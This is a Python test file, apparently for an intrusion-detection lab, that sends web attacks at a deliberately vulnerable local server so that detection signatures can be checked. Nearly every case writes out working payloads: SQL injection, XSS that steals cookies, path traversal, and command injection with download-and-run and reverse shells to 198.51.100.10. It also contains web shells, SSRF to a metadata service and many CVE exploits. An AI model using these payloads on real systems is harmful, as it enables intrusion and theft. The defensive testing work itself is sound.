"""Attacks on a web application, each a real request with a real answer, and harmless requests that look like them."""
import webserver
from cases import case
from lab import BROWSER

FIRES = "Each request in `requests.txt` is an attack of this kind; the signatures for it must fire. Which, and how often, is in `case.toml`."
WORKED = "Where the status is 200 and the answer carries what was asked for, the attack worked: the level is higher than for the same request answered with 404 or 403."
QUIET = ["Nothing: every request here is harmless, though a careless signature would fire."]


def begin(lab, **options):
    lab.edge()
    webserver.start(lab, **options)
    lab.capture()


@case("webattack_sqli", webserver.PACKAGES, [FIRES, WORKED])
def sqli(lab):
    """SQL injection against a shop whose item and login pages build SQL from the request: union, tautology, comment, stacked, time, error and blind forms, in the URI, the body, a cookie and a header, plain and encoded."""
    begin(lab)
    r = lab.request
    r("quote probe", "'URL/item.php?id=1%27'")
    r("tautology, numeric", "'URL/item.php?id=1%20OR%201=1'")
    r("tautology, string", "'URL/item.php?id=%27%20or%20%27a%27=%27a'")
    r("tautology with comment", "'URL/item.php?id=1%27%20OR%201=1--%20-'")
    r("column count by ORDER BY", "'URL/item.php?id=1+ORDER+BY+10--'")
    r("union select, works: reads accounts", "'URL/item.php?id=0+UNION+SELECT+1,name,secret+FROM+account'")
    r("union all select null", "'URL/item.php?id=-1%20UNION%20ALL%20SELECT%20NULL,NULL,NULL--'")
    r("union select in mixed case", "'URL/item.php?id=0+uNiOn+sElEcT+1,2,3'")
    r("union select with inline comments", "'URL/item.php?id=0/**/UNION/**/SELECT/**/1,2,3'")
    r("union select with version comment (MySQL)", "'URL/item.php?id=0+/*!50000UNION*/+/*!50000SELECT*/+1,2,3'")
    r("union select, double encoded", "'URL/item.php?id=0%2520UNION%2520SELECT%25201,2,3'")
    r("schema: sqlite_master, works", "'URL/item.php?id=0+UNION+SELECT+1,name,sql+FROM+sqlite_master'")
    r("schema: information_schema", "'URL/item.php?id=0+UNION+SELECT+1,table_name,3+FROM+information_schema.tables'")
    r("version and user", "'URL/item.php?id=0+UNION+SELECT+@@version,user(),database()'")
    r("time: sleep (MySQL)", "'URL/item.php?id=1+AND+SLEEP(5)'")
    r("time: benchmark (MySQL)", "'URL/item.php?id=1+AND+BENCHMARK(5000000,MD5(1))'")
    r("time: waitfor (MSSQL)", "'URL/item.php?id=1;WAITFOR+DELAY+%270:0:5%27--'")
    r("time: pg_sleep (PostgreSQL)", "'URL/item.php?id=1;SELECT+pg_sleep(5)--'")
    r("error: extractvalue (MySQL)", "'URL/item.php?id=1+AND+extractvalue(1,concat(0x7e,version()))'")
    r("error: updatexml (MySQL)", "'URL/item.php?id=1+AND+updatexml(1,concat(0x7e,user()),1)'")
    r("stacked: drop table", "'URL/item.php?id=1;DROP+TABLE+orders--'")
    r("file: load_file", "'URL/item.php?id=0+UNION+SELECT+1,load_file(%27/etc/passwd%27),3'")
    r("file: into outfile", "'URL/item.php?id=1+INTO+OUTFILE+%27/var/www/x.php%27'")
    r("command: xp_cmdshell (MSSQL)", "'URL/item.php?id=1;EXEC+master..xp_cmdshell+%27whoami%27--'")
    r("blind: substring and ascii", "'URL/item.php?id=1+AND+ASCII(SUBSTRING((SELECT+secret+FROM+account+LIMIT+1),1,1))>64'")
    r("hex and char encoded", "'URL/item.php?id=0+UNION+SELECT+1,CHAR(97,100,109,105,110),0x61646d696e'")
    r("login bypass in the body, works", """--data-urlencode "user=admin' --" -d pass=x URL/login.php""")
    r("login bypass with tautology in the body, works", """--data-urlencode "user=' or 1=1 --" -d pass=x URL/login.php""")
    r("union select in the body", """--data-urlencode "user=x' UNION SELECT name FROM account --" -d pass=x URL/login.php""")
    r("in a cookie", """-b "track=x' UNION SELECT 1,2,3-- " URL/index.html""")
    r("in a header", """-H "X-Forwarded-For: 127.0.0.1' AND SLEEP(5)-- " URL/index.html""")
    r("in JSON", """-H 'Content-Type: application/json' -d '{"id": "1 UNION SELECT name, secret FROM account"}' URL/echo.php""")
    r("page that does not exist", "'URL/news.asp?id=1+UNION+SELECT+1,2,3'")


@case("webattack_xss", webserver.PACKAGES, [FIRES, WORKED])
def xss(lab):
    """Cross-site scripting: reflected through a search page that repeats the word as it came, stored through a comment form, plain, encoded and in event handlers."""
    begin(lab)
    r = lab.request
    r("script tag", "'URL/search.php?q=<script>alert(1)</script>'")
    r("script tag, encoded", "'URL/search.php?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E'")
    r("script tag, mixed case", "'URL/search.php?q=%3CScRiPt%3Ealert(1)%3C/sCrIpT%3E'")
    r("script tag with source", "'URL/search.php?q=%3Cscript%20src=//198.51.100.10/x.js%3E%3C/script%3E'")
    r("after an attribute", "'URL/search.php?q=%22%3E%3Cscript%3Ealert(String.fromCharCode(88,83,83))%3C/script%3E'")
    r("img onerror", "'URL/search.php?q=%3Cimg%20src=x%20onerror=alert(1)%3E'")
    r("svg onload", "'URL/search.php?q=%3Csvg/onload=alert(1)%3E'")
    r("body onload", "'URL/search.php?q=%3Cbody%20onload=alert(1)%3E'")
    r("event handler in an attribute", "'URL/search.php?q=%22%20onmouseover=%22alert(1)'")
    r("onfocus autofocus", "'URL/search.php?q=%3Cinput%20onfocus=alert(1)%20autofocus%3E'")
    r("iframe with javascript", "'URL/search.php?q=%3Ciframe%20src=javascript:alert(1)%3E'")
    r("javascript link", "'URL/search.php?q=%3Ca%20href=%22javascript:alert(1)%22%3Ex%3C/a%3E'")
    r("data link", "'URL/search.php?q=%3Cobject%20data=%22data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==%22%3E'")
    r("cookie theft", "'URL/search.php?q=%3Cscript%3Edocument.location=%27http://198.51.100.10/c?%27%2Bdocument.cookie%3C/script%3E'")
    r("double encoded", "'URL/search.php?q=%253Cscript%253Ealert(1)%253C/script%253E'")
    r("style expression", "'URL/search.php?q=%3Cdiv%20style=%22width:expression(alert(1))%22%3E'")
    r("meta refresh", "'URL/search.php?q=%3Cmeta%20http-equiv=refresh%20content=0;url=javascript:alert(1)%3E'")
    r("stored, in the body", "--data-urlencode 'text=<script>alert(1)</script>' URL/comment.php")
    r("stored, img in the body", "--data-urlencode 'text=<img src=x onerror=fetch(\"//198.51.100.10/\"+document.cookie)>' URL/comment.php")
    r("in the referer", "-e 'http://x/<script>alert(1)</script>' URL/index.html")
    r("in the path, 404", "'URL/<script>alert(1)</script>'")


@case("webattack_traversal", webserver.PACKAGES, [FIRES, WORKED])
def traversal(lab):
    """Path traversal and file inclusion: in the path and in parameters, plain, encoded, double encoded and overlong, for Unix and Windows; one page really gives the file away."""
    begin(lab)
    r = lab.request
    up = "../" * 8
    r("parameter, works: /etc/passwd", f"'URL/download.php?file={up}etc/passwd'")
    r("parameter, encoded, works", "'URL/download.php?file=" + "%2e%2e%2f" * 8 + "etc%2fpasswd'")
    r("parameter, double encoded", "'URL/download.php?file=" + "%252e%252e%252f" * 6 + "etc%252fpasswd'")
    r("parameter, dots doubled", "'URL/download.php?file=" + "....//" * 6 + "etc/passwd'")
    r("parameter, null byte", f"'URL/download.php?file={up}etc/passwd%00.txt'")
    r("parameter, /etc/shadow", f"'URL/download.php?file={up}etc/shadow'")
    r("parameter, absolute", "'URL/page.php?page=/etc/passwd'")
    r("parameter, /proc/self/environ", f"'URL/page.php?page={up}proc/self/environ'")
    r("parameter, backslashes", "'URL/download.php?file=" + "..%5c" * 6 + "windows%5cwin.ini'")
    r("parameter, boot.ini", f"'URL/download.php?file={up}boot.ini'")
    r("path", f"--path-as-is 'URL/{up}etc/passwd'")
    r("path, encoded", "--path-as-is 'URL/" + "%2e%2e/" * 8 + "etc/passwd'")
    r("path, encoded slash", "--path-as-is 'URL/docs/" + "..%2f" * 8 + "etc/passwd'")
    r("path, overlong UTF-8", "--path-as-is 'URL/" + "..%c0%af" * 6 + "etc/passwd'")
    r("path, half encoded (Apache 2.4.49)", "--path-as-is 'URL/cgi-bin/" + ".%2e/" * 6 + "etc/passwd'")
    r("path, double percent (Apache 2.4.50)", "--path-as-is 'URL/cgi-bin/" + "%%32%65%%32%65/" * 6 + "etc/passwd'")
    r("path, IIS unicode", "--path-as-is 'URL/scripts/..%255c..%255cwinnt/system32/cmd.exe?/c+dir+c:'")
    r("inclusion through php://filter, works", "'URL/page.php?page=php://filter/convert.base64-encode/resource=index.html'")
    r("inclusion of a remote file", "'URL/page.php?page=http://198.51.100.10/shell.txt'")
    r("inclusion through data:", "'URL/page.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg=='")
    r("inclusion through expect:", "'URL/page.php?page=expect://id'")
    r("page that does not exist", f"'URL/view.jsp?path={up}etc/passwd'")
    r("in the body", f"-d 'file={up}etc/passwd' URL/echo.php")
    r("in a cookie", f"-b 'lang={up}etc/passwd' URL/index.html")


@case("webattack_cmd", webserver.PACKAGES, [FIRES, WORKED])
def cmd(lab):
    """Command injection into a page that puts the request into a shell command, and into pages that do not exist: separators, substitution, download-and-run, reverse shells."""
    begin(lab)
    r = lab.request
    r("semicolon, works: id", "'URL/ping.php?host=127.0.0.1;id'")
    r("pipe, works: whoami", "'URL/ping.php?host=127.0.0.1|whoami'")
    r("and, works: uname", "'URL/ping.php?host=127.0.0.1%26%26uname%20-s'")
    r("semicolon, works: cat /etc/passwd", "'URL/ping.php?host=;cat%20/etc/passwd'")
    r("dollar substitution", "'URL/ping.php?host=$(id)'")
    r("backticks", "'URL/ping.php?host=%60id%60'")
    r("newline", "'URL/ping.php?host=127.0.0.1%0Aid'")
    r("blank by IFS", "'URL/ping.php?host=;cat$IFS/etc/passwd'")
    r("base64 to sh", "'URL/ping.php?host=;echo%20aWQ=|base64%20-d|sh'")
    r("in the body, works", "--data-urlencode 'host=127.0.0.1; id; ls -la' URL/ping.php")
    r("download and run (wget)", "'URL/cgi-bin/status?host=;cd%20/tmp;wget%20http://198.51.100.10/bins.sh;chmod%20777%20bins.sh;sh%20bins.sh'")
    r("download and run (curl to sh)", "'URL/cgi-bin/status?host=;curl%20http://198.51.100.10/a.sh|sh'")
    r("download and run (tftp, busybox)", "'URL/cgi-bin/luci?cmd=;busybox%20tftp%20-g%20-r%20mips%20198.51.100.10;chmod%20+x%20mips;./mips'")
    r("reverse shell, bash", "'URL/cgi-bin/status?host=;bash%20-i%20%3E%26%20/dev/tcp/198.51.100.10/4444%200%3E%261'")
    r("reverse shell, nc", "'URL/cgi-bin/status?host=;nc%20-e%20/bin/sh%20198.51.100.10%204444'")
    r("reverse shell, mkfifo", "'URL/cgi-bin/status?host=;rm%20/tmp/f;mkfifo%20/tmp/f;cat%20/tmp/f|/bin/sh%20-i%202%3E%261|nc%20198.51.100.10%204444%20%3E/tmp/f'")
    r("reverse shell, python", "'URL/cgi-bin/status?host=;python3%20-c%20%27import%20socket,subprocess,os;s=socket.socket();s.connect((%22198.51.100.10%22,4444))%27'")
    r("Windows: cmd.exe", "'URL/status.aspx?host=1%26cmd.exe%20/c%20dir%20c:%5C'")
    r("Windows: PowerShell, encoded", "'URL/status.aspx?host=1%26powershell%20-nop%20-w%20hidden%20-enc%20SQBFAFgA'")
    r("Windows: certutil download", "'URL/status.aspx?host=1%26certutil%20-urlcache%20-split%20-f%20http://198.51.100.10/a.exe%20a.exe'")
    r("in a header", "-H 'X-Forwarded-For: 127.0.0.1; wget http://198.51.100.10/x -O /tmp/x' URL/index.html")


@case("webattack_webshell", webserver.PACKAGES, ["The upload of a PHP file, and each use of it, fire.", "The use works (200, output of `id`): it is an attack that succeeded."])
def webshell(lab):
    """A web shell is uploaded through the shop's upload form, then used: by GET, by POST with eval, with a base64 word as common shells do; then requests for shells that are not there."""
    lab.edge()
    webserver.start(lab)
    lab.write("shell.php", "<?php if (isset($_REQUEST['cmd'])) { echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; } ?>\n")
    lab.write("eval.php", "<?php @eval($_POST['pass']); ?>\n")
    lab.write("image.php", b"GIF89a;\n<?php echo shell_exec(base64_decode($_POST['z0'])); ?>\n")
    lab.write("shell.jsp", '<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>\n')
    lab.write("shell.aspx", '<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>\n')
    lab.capture()
    r, tmp = lab.request, lab.tmp
    r("upload of a PHP shell", f"-F 'file=@{tmp}/shell.php;type=application/x-php' URL/upload.php")
    r("upload of a one-line eval shell", f"-F 'file=@{tmp}/eval.php;type=image/jpeg;filename=photo.php' URL/upload.php")
    r("upload of a shell behind an image header", f"-F 'file=@{tmp}/image.php;type=image/gif;filename=image.php' URL/upload.php")
    r("upload of a JSP shell", f"-F 'file=@{tmp}/shell.jsp;type=text/plain' URL/upload.php")
    r("upload of an ASPX shell", f"-F 'file=@{tmp}/shell.aspx;type=text/plain' URL/upload.php")
    r("use by GET: id", "'URL/uploads/shell.php?cmd=id'")
    r("use by GET: ls", "'URL/uploads/shell.php?cmd=ls%20-la'")
    r("use by GET: cat /etc/passwd", "'URL/uploads/shell.php?cmd=cat+/etc/passwd'")
    r("use by POST: eval", "--data-urlencode \"pass=system('id');\" URL/uploads/photo.php")
    r("use by POST: eval of base64, as China Chopper does", "--data-urlencode \"pass=@eval(base64_decode(\\$_POST['z0']));\" --data-urlencode 'z0=ZWNobyBzaGVsbF9leGVjKCJpZCIpOw==' URL/uploads/photo.php")
    r("use by POST: base64 word", "--data-urlencode 'z0=aWQ=' URL/uploads/image.php")
    for name in ("c99.php", "r57.php", "wso.php", "b374k.php", "cmd.jsp", "cmd.aspx"):
        r("looks for a shell that is not there", f"'URL/uploads/{name}?cmd=whoami'")


@case("webattack_injection", webserver.PACKAGES, [FIRES, WORKED])
def injection(lab):
    """Other injections: XML external entities, server-side request forgery (to an instance-metadata service that answers), templates, NoSQL, LDAP, serialized objects, header injection, request smuggling."""
    lab.edge()
    lab.address("sk-s", "lo", "169.254.169.254/32")
    lab.write("meta/latest/meta-data/iam/security-credentials/shop-role", '{"Code": "Success", "AccessKeyId": "ASIAEXAMPLEEXAMPLE", "SecretAccessKey": "not-a-secret", "Token": "none"}\n')
    webserver.start(lab, bind="10.20.0.80:")
    lab.spawn("sk-s", f"/usr/bin/python3 -m http.server 80 --bind 169.254.169.254 -d {lab.tmp}/meta", wait=1)
    lab.capture()
    r = lab.request
    xml = "-H 'Content-Type: application/xml' --data-binary"
    r("XXE: file, works", f"""{xml} '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' URL/xml.php""")
    r("XXE: php filter", f"""{xml} '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]><a>&x;</a>' URL/xml.php""")
    r("XXE: external DTD by parameter entity", f"""{xml} '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % d SYSTEM "http://198.51.100.10/evil.dtd"> %d;]><a/>' URL/xml.php""")
    r("XXE: billion laughs, small", f"""{xml} '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><l>&c;</l>' URL/xml.php""")
    r("SSRF: metadata credentials, works", "'URL/fetch.php?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-role'")
    r("SSRF: metadata by decimal address", "'URL/fetch.php?url=http://2852039166/latest/meta-data/'")
    r("SSRF: the server itself", "'URL/fetch.php?url=http://10.20.0.80/admin/index.html'")
    r("SSRF: file", "'URL/fetch.php?url=file:///etc/passwd'")
    r("SSRF: gopher to redis", "'URL/fetch.php?url=gopher://127.0.0.1:6379/_FLUSHALL'")
    r("SSRF: metadata in the body", "--data-urlencode 'url=http://metadata.google.internal/computeMetadata/v1/' URL/fetch.php")
    r("template: jinja", "'URL/search.php?q={{7*7}}'".replace("{{", "%7B%7B").replace("}}", "%7D%7D"))
    r("template: jinja to os", "-G --data-urlencode \"q={{config.__class__.__init__.__globals__['os'].popen('id').read()}}\" URL/search.php")
    r("template: freemarker", "-G --data-urlencode 'q=<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}' URL/search.php")
    r("NoSQL operator in JSON", """-H 'Content-Type: application/json' -d '{"user": {"$ne": null}, "pass": {"$gt": ""}}' URL/echo.php""")
    r("NoSQL operator in a form", "-d 'user[$ne]=x&pass[$regex]=.*' URL/echo.php")
    r("LDAP filter", "'URL/search.php?q=*)(uid=*))(%7C(uid=*'")
    r("serialized PHP object", "--data-urlencode 'data=O:8:\"Exploit1\":1:{s:3:\"cmd\";s:2:\"id\";}' URL/echo.php")
    r("serialized Java object", "-H 'Content-Type: application/x-java-serialized-object' --data-binary $'\\xac\\xed\\x00\\x05sr\\x00\\x11java.util.HashMap' URL/echo.php")
    r("serialized Java object in base64", "-b 'rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==' URL/index.html")
    r("header injection by CR LF", "'URL/search.php?q=x%0d%0aSet-Cookie:%20admin=1'")
    r("smuggling: length and chunked", "-H 'Transfer-Encoding: chunked' -H 'Content-Length: 6' -d 'x=1' URL/echo.php")


@case("webattack_exploit", webserver.PACKAGES, [FIRES, "The server has none of these products: the attacks fail (404, 403, 405 or the ordinary page), which keeps the level low."])
def exploit(lab):
    """Attacks on known vulnerabilities of products, as scanning bots send them in a row: Log4Shell, Shellshock, PHP-CGI, Spring4Shell, Struts, Confluence, Drupal, ThinkPHP, PHPUnit, Citrix, F5, Exchange, WebLogic, routers and more."""
    begin(lab)
    r = lab.request
    r("Log4Shell CVE-2021-44228, User-Agent", "-A '${jndi:ldap://198.51.100.10:1389/a}' URL/")
    r("Log4Shell, header", "-H 'X-Api-Version: ${jndi:ldap://198.51.100.10:1389/Basic/Command/Base64/aWQ=}' URL/")
    r("Log4Shell, rmi in a header", "-H 'Referer: ${jndi:rmi://198.51.100.10:1099/a}' URL/")
    r("Log4Shell, dns in a cookie", "-b 'session=${jndi:dns://198.51.100.10/a}' URL/")
    r("Log4Shell, obfuscated with lower", "-A '${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://198.51.100.10/a}' URL/")
    r("Log4Shell, obfuscated with default values", "-H 'X-Forwarded-For: ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.10/a}' URL/")
    r("Log4Shell, in the URI", "'URL/search.php?q=$%7Bjndi:ldap://198.51.100.10/a%7D'")
    r("Log4Shell, in the body", "--data-urlencode 'user=${jndi:ldaps://198.51.100.10/a}' -d pass=x URL/login.php")
    r("Shellshock CVE-2014-6271, User-Agent", "-A '() { :; }; echo; /bin/cat /etc/passwd' URL/cgi-bin/test.cgi")
    r("Shellshock, Cookie", "-b '() { :;}; /bin/bash -c \"wget http://198.51.100.10/x\"' URL/cgi-bin/status")
    r("Shellshock, Referer, CVE-2014-6278 form", "-e '() { _; } >_[$($())] { id; }' URL/cgi-bin/status")
    r("PHP-CGI CVE-2012-1823", "-d '<?php system(\"id\"); ?>' 'URL/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input'")
    r("PHP-CGI CVE-2024-4577", "-d '<?php phpinfo(); ?>' 'URL/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input'")
    r("Spring4Shell CVE-2022-22965", "-d 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp' URL/login.php")
    r("Spring Cloud Function CVE-2022-22963", "-H 'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec(\"id\")' -d x URL/functionRouter")
    r("Spring Cloud Gateway CVE-2022-22947", """-H 'Content-Type: application/json' -d '{"id":"a","filters":[{"name":"AddResponseHeader","args":{"name":"r","value":"#{T(java.lang.Runtime).getRuntime().exec(\\"id\\")}"}}],"uri":"http://x"}' URL/actuator/gateway/routes/a""")
    r("Struts S2-045 CVE-2017-5638", "-H \"Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}\" URL/upload.action")
    r("Struts S2-057 CVE-2018-11776", "-g 'URL/$%7B(%23_memberAccess[%22allowStaticMethodAccess%22]=true,@java.lang.Runtime@getRuntime().exec(%27id%27))%7D/help.action'")
    r("Struts S2-016 CVE-2013-2251", "'URL/index.action?redirect:$%7B%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]%7B%22id%22%7D)).start()%7D'")
    r("Confluence CVE-2022-26134", "'URL/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/'")
    r("Confluence CVE-2023-22515", "'URL/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'")
    r("Drupalgeddon2 CVE-2018-7600", "-d 'form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id' 'URL/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax'")
    r("ThinkPHP CVE-2018-20062", "'URL/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id' -g")
    r("PHPUnit CVE-2017-9841", "-d '<?php echo md5(1); ?>' URL/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php")
    r("Laravel Ignition CVE-2021-3129", """-H 'Content-Type: application/json' -d '{"solution":"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution","parameters":{"variableName":"x","viewFile":"php://filter/write=convert.base64-decode/resource=../storage/logs/laravel.log"}}' URL/_ignition/execute-solution""")
    r("Citrix CVE-2019-19781", "--path-as-is URL/vpn/../vpns/cfg/smb.conf")
    r("F5 BIG-IP CVE-2020-5902", "--path-as-is 'URL/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'")
    r("F5 BIG-IP CVE-2022-1388", """-H 'X-F5-Auth-Token: x' -H 'Connection: keep-alive, X-F5-Auth-Token' -H 'Content-Type: application/json' -d '{"command":"run","utilCmdArgs":"-c id"}' URL/mgmt/tm/util/bash""")
    r("Fortinet CVE-2018-13379", "--path-as-is 'URL/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession'")
    r("Pulse Secure CVE-2019-11510", "--path-as-is 'URL/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd?/dana/html5acc/guacamole/'")
    r("Ivanti CVE-2023-46805 and CVE-2024-21887", "--path-as-is 'URL/api/v1/totp/user-backup-code/../../license/keys-status/%3bid%3b'")
    r("Exchange ProxyShell CVE-2021-34473", "'URL/autodiscover/autodiscover.json?@shop.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@shop.example'")
    r("Exchange ProxyLogon CVE-2021-26855", "-b 'X-BEResource=localhost~1942062522' URL/ecp/y.js")
    r("WebLogic CVE-2020-14882", "--path-as-is 'URL/console/css/%252e%252e%252fconsole.portal?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh.ShellSession'")
    r("WebLogic CVE-2017-10271", "-H 'Content-Type: text/xml' -d '<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>id</string></void></array><void method=\"start\"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>' URL/wls-wsat/CoordinatorPortType")
    r("Tomcat PUT CVE-2017-12617", "-X PUT -d '<% out.println(1); %>' URL/x.jsp/")
    r("Jenkins script console", "-d 'script=println(\"id\".execute().text)' URL/jenkins/scriptText")
    r("Solr CVE-2019-17558", "'URL/solr/core/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))'")
    r("Hadoop YARN unauthenticated", """-H 'Content-Type: application/json' -d '{"application-id":"a","am-container-spec":{"commands":{"command":"id"}}}' URL/ws/v1/cluster/apps""")
    r("VMware vCenter CVE-2021-21972", "-F 'uploadFile=@www/docs/terms.txt;filename=a.tar' URL/ui/vropspluginui/rest/services/uploadova")
    r("GitLab CVE-2021-22205 path", "-F 'file=@www/docs/terms.txt;filename=a.jpg;type=image/jpeg' URL/uploads/user")
    r("MOVEit CVE-2023-34362 path", "-H 'X-siLock-Transaction: folder_add_by_path' -d x 'URL/moveitisapi/moveitisapi.dll?action=m2'")
    r("ScreenConnect CVE-2024-1709", "URL/SetupWizard.aspx/x")
    r("PAN-OS CVE-2024-3400", "-b 'SESSID=/../../../var/appweb/sslvpndocs/global-protect/portal/images/x.txt' -d x URL/ssl-vpn/hipreport.esp")
    r("GPON router CVE-2018-10561", "-d 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`wget+http://198.51.100.10/x`;id&ipv=0' 'URL/GponForm/diag_Form?images/'")
    r("Netgear setup.cgi", "'URL/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.10/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1'")
    r("Huawei HG532 CVE-2017-17215", "-H 'Authorization: Digest username=\"dslf-config\"' -d '<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g 198.51.100.10 -l /tmp/x)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>' URL/ctrlt/DeviceUpgrade_1")
    r("D-Link HNAP CVE-2015-2051", "-H 'SOAPAction: \"http://purenetworks.com/HNAP1/GetDeviceSettings/`wget http://198.51.100.10/x`\"' -d x URL/HNAP1/")
    r("TP-Link Archer CVE-2023-1389", "'URL/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/x)'")
    r("Zyxel CVE-2022-30525", """-H 'Content-Type: application/json' -d '{"command":"setWanPortSt","proto":"dhcp","port":"4","vlan_tagged":"1","mtu":"; id;"}' URL/ztp/cgi-bin/handler""")
    r("Linksys TheMoon", "-d 'ttcp_ip=-h+`cd+/tmp;wget+http://198.51.100.10/x`&submit_button=' URL/tmUnblock.cgi")
    r("WordPress xmlrpc login by multicall", "-d '<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value>wp.getUsersBlogs</value></data></array></value></param></params></methodCall>' URL/xmlrpc.php")
    r("IIS Range CVE-2015-1635", "-H 'Range: bytes=0-18446744073709551615' URL/index.html")
    r("Apache Range CVE-2011-3192", "-H 'Range: bytes=0-,5-0,5-1,5-2,5-3,5-4,5-5,5-6,5-7,5-8,5-9,5-10,5-11,5-12,5-13,5-14,5-15' URL/index.html")
    r("ShellShock-like httpoxy CVE-2016-5385", "-H 'Proxy: http://198.51.100.10:8080/' URL/index.html")


@case("webattack_disclosure", webserver.PACKAGES, [FIRES, "404 and 403 are answers that failed; `/.env`, `/.git/config` and `/backup.sql` are there and are given away."])
def disclosure(lab):
    """The search for files that should not be served: settings, repositories, backups, consoles, logs; three of them exist and are given away."""
    lab.edge()
    webserver.start(lab)
    lab.write("www/.env", "APP_KEY=base64:bm90LWEta2V5\nDB_PASSWORD=not-a-password\nAWS_SECRET_ACCESS_KEY=not-a-secret\n")
    lab.write("www/.git/config", "[core]\n\trepositoryformatversion = 0\n[remote \"origin\"]\n\turl = https://git.example/shop.git\n")
    lab.write("www/backup.sql", "-- MySQL dump 10.13\nCREATE TABLE `account` (`name` text, `secret` text);\nINSERT INTO `account` VALUES ('admin','x');\n")
    lab.capture()
    for path in ("/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.htpasswd", "/.htaccess", "/.aws/credentials", "/.ssh/id_rsa", "/.DS_Store", "/backup.sql",
                 "/backup.zip", "/db.sql.gz", "/wp-config.php.bak", "/wp-config.php~", "/config.php.old", "/web.config", "/phpinfo.php", "/info.php", "/server-status",
                 "/server-info", "/actuator/env", "/actuator/heapdump", "/.vscode/sftp.json", "/docker-compose.yml", "/phpmyadmin/index.php", "/adminer.php", "/manager/html",
                 "/jmx-console/", "/console/", "/solr/admin/", "/elmah.axd", "/trace.axd", "/WEB-INF/web.xml", "/private/keys.txt", "/cgi-bin/printenv", "/debug.log"):
        lab.request("asks for a file that should not be served", f"--path-as-is URL{path}")


@case("webattack_scan_tools", webserver.PACKAGES + ["nmap", "gobuster", "whatweb", "hydra"], [
    "Tools that name themselves in the User-Agent, or by a habit of theirs, fire.",
    "No `port_scan`: all of it goes to one port."])
def scan_tools(lab):
    """Web scanners at work: gobuster with a short list, whatweb, nmap's http scripts, and one request each in the name of tools that Debian does not have (Nikto, WPScan, Nuclei, Acunetix, …; curl -A)."""
    begin(lab)
    lab.write("words.txt", "\n".join("admin backup cgi-bin config db docs download images index.html login manager old phpmyadmin private robots.txt scripts server-status test tmp uploads webdav wp-admin wp-login.php xmlrpc.php".split()) + "\n")
    lab.run("sk-c", f"gobuster dir -q -t 2 -u http://10.20.0.80/ -w {lab.tmp}/words.txt")
    lab.run("sk-c", "whatweb --no-errors -t 1 http://10.20.0.80/")
    lab.run("sk-c", "nmap -n -Pn -p 80 --script http-title,http-headers,http-methods,http-robots.txt,http-git,http-shellshock,http-vuln-cve2017-5638 10.20.0.80", timeout=60)
